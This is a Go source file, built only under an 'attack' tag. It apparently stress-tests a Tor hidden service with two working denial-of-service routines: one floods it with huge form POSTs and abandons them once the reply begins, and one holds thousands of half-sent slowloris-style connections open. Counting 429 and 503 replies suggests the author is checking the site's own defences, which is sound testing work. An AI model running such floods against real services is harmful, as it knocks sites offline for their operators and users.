//go:build attack

package main

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"time"
)

// breakOff asks for long answers, forms that come back with their text, and
// leaves when they have begun.
func breakOff(x *attacker) {
	body := url.Values{"text": {strings.Repeat("x", 300_000)}, "links": {"0"}}.Encode()
	x.everywhere(20, 20, func(at uint32, _ *http.Client) {
		c, err := x.dial(context.Background(), at)
		if err != nil {
			x.cut.Add(1)
			time.Sleep(100 * time.Millisecond)
			return
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(10 * time.Second))
		go fmt.Fprintf(c, "POST /new HTTP/1.1\r\nHost: %s\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%s", torHost, len(body), body)
		head := make([]byte, 4<<10)
		if _, err := io.ReadFull(c, head); err != nil {
			x.cut.Add(1)
			return
		}
		switch string(head[9:12]) {
		case "429":
			x.slowed.Add(1)
		case "503":
			x.busy.Add(1)
		default:
			x.answers.Add(1)
		}
	})
}

// holdOpen opens as many connections as it gets on one circuit, and begins a
// request on each; those that are closed it opens again ten seconds later. Tor
// would end the circuit at the 21st, by HiddenServiceMaxStreams: this is what
// the site does by itself.
func holdOpen(x *attacker) {
	const conns, atOnce = 10_000, 100
	var all sync.WaitGroup
	at, turn := x.circuit(), make(chan struct{}, atOnce)
	for range conns {
		all.Go(func() {
			for !x.done() {
				turn <- struct{}{}
				c, err := x.dial(context.Background(), at)
				if err == nil {
					_, err = io.WriteString(c, "GET / HTTP/1.1\r\nHost: "+torHost+"\r\nX: ")
				}
				<-turn
				if err == nil {
					io.Copy(io.Discard, c) // until it is closed
				}
				if c != nil {
					c.Close()
				}
				x.cut.Add(1)
				select {
				case <-x.over:
				case <-time.After(10 * time.Second):
				}
			}
		})
	}
	all.Wait()
}
